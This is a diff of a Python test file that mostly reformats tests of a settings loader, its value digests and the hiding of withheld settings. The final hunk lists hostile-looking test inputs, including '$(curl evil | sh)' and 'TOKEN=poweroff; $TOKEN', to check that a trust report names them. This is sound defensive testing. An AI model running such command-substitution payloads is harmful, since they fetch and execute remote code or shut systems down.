@@ -72,8 +72,11 @@ def every_field() -> Iterator[tuple[str, Any]]:
 
 
 def test_every_setting_says_what_it_can_do() -> None:
-    silent = [name for name, one in every_field()
-              if not any(isinstance(said, Can) for said in one.metadata)]  # fmt: skip
+    silent = [
+        name
+        for name, one in every_field()
+        if not any(isinstance(said, Can) for said in one.metadata)
+    ]
     assert not silent, f"say in their annotation what they can do (workflows/powers.py): {silent}"
 
 
@@ -115,9 +118,19 @@ def test_the_digest_is_of_names_and_values_in_any_order(fields: dict[Any, Any]) 
 
 def test_values_that_look_alike_differ() -> None:
     texts = (
-        "a = 1", "a = 1.0", "a = '1'", "a = true", "a = 'true'", "a = 2020-01-01",
-        "a = '2020-01-01'", "a = ['1']", "a.b = 1", "'a.b' = 1", "a = {}", "a = []",
-    )  # fmt: skip
+        "a = 1",
+        "a = 1.0",
+        "a = '1'",
+        "a = true",
+        "a = 'true'",
+        "a = 2020-01-01",
+        "a = '2020-01-01'",
+        "a = ['1']",
+        "a.b = 1",
+        "'a.b' = 1",
+        "a = {}",
+        "a = []",
+    )
     digests = {digest_of(powerful(tomllib.loads(text), {})) for text in texts}
     assert len(digests) == len(texts)
 
@@ -156,8 +169,14 @@ def test_others_come_first_or_instead(folder: Path, monkeypatch: pytest.MonkeyPa
 def test_what_is_withheld_is_in_no_other_shape_of_the_settings(folder: Path) -> None:
     says(folder, "store = 'the-store-of-others'\nagent_model = 'openai:x'\nonline = true\n")
     read = read_settings()
-    for text in (repr(read), str(read.model_dump()), read.model_dump_json(), str(vars(read)),
-                 repr(read.model_copy()), str(read.defaults)):  # fmt: skip
+    for text in (
+        repr(read),
+        str(read.model_dump()),
+        read.model_dump_json(),
+        str(vars(read)),
+        repr(read.model_copy()),
+        str(read.defaults),
+    ):
         assert "the-store-of-others" not in text
         assert "openai:x" not in text
     for one in (read, read.model_copy(update={"hours": 2.0})):
@@ -465,9 +484,14 @@ A_KEY = "/clone/y.sh"
     told += record.read_text() + command("trust", "--show").stdout
     assert not [one for one in secrets if one in told]
     for seen in (
-        "/bin/evil", "evilprogram7", "TOKEN=poweroff; $TOKEN", "$(curl evil | sh)", "/clone/x.sh",
-        "/clone/y.sh", "WANDB_API_KEY",
-    ):  # fmt: skip
+        "/bin/evil",
+        "evilprogram7",
+        "TOKEN=poweroff; $TOKEN",
+        "$(curl evil | sh)",
+        "/clone/x.sh",
+        "/clone/y.sh",
+        "WANDB_API_KEY",
+    ):
         assert seen in told
     assert "\x1b" not in told
     assert "\u202e" not in told
